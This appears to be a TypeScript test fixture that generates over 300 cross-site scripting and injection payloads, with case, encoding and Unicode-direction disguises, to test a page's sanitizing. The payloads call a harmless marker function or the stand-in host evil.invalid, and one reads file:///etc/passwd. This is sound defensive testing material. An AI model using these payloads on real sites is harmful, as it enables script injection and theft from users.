// What strangers could write so that a page runs it (T-10): markup, handlers, addresses and characters that hide or
// turn text around. Every payload that ran would call `ranHostile` or ask for a thing of `evil.invalid`.

const call = 'ranHostile(1)';
const far = 'https://evil.invalid/x';

const tags = [
  `<script>${call}</script>`,
  `<script src="${far}.js"></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="${far}.png">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="${far}.svg#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<body onload=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<video src="${far}.mp4" autoplay></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<details open ontoggle=${call}>x</details>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<base href="${far}/">`,
  `<link rel=stylesheet href="${far}.css">`,
  `<style>@import "${far}.css";</style>`,
  `<style>*{background:url(${far}.png)}</style>`,
  `<div style="background:url(${far}.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`,
  `<button popovertarget=x onclick=${call}>x</button><div popover id=x onbeforetoggle=${call}>x</div>`,
];
const bare = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `data:text/html;base64,PHNjcmlwdD5yYW5Ib3N0aWxlKDEpPC9zY3JpcHQ+`,
  `vbscript:${call}`,
  `file:///etc/passwd`,
  `parley://app/index.html#<img src=x onerror=${call}>`,
  `${far}?q="onmouseover=${call}`,
  `http://evil.invalid\u3002example/${call}`,
  `https://evil.invalid@example.com/${call}`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `*_~\`<img src=x onerror=${call}>\`~_*`,
  `\`\`\`<script>${call}</script>\`\`\``,
  `' onmouseover='${call}`,
  `" onfocus="${call}" autofocus="`,
  `</textarea><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `--><script>${call}</script>`,
  `\u202e${far}\u202c`,
  `\u2066<img src=x onerror=${call}>\u2069`,
  `\u202Eexe.\u202Dgpj`,
  `\u200f\u200e\u061c<svg onload=${call}>`,
  `a\u0000<script>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `${'\u0301'.repeat(200)}<img src=x onerror=${call}>`,
  `${'\u202e'.repeat(50)}x`,
  `\u{e0001}\u{e0068}\u{e0069}<b>x</b>`,
  `\ud800<script>${call}</script>`,
];

/** Ways of writing the same that filters forget. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll(' on', '\non').replaceAll(' src', '/src'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;'),
  (text) => `">${text}`,
  (text) => `'>${text}<!--`,
  (text) => `*${text}*`,
];

/** At least 300 different ones. */
export const hostilePayloads: readonly string[] = [
  ...new Set([...tags.flatMap((tag) => disguises.map((disguise) => disguise(tag))), ...bare]),
];
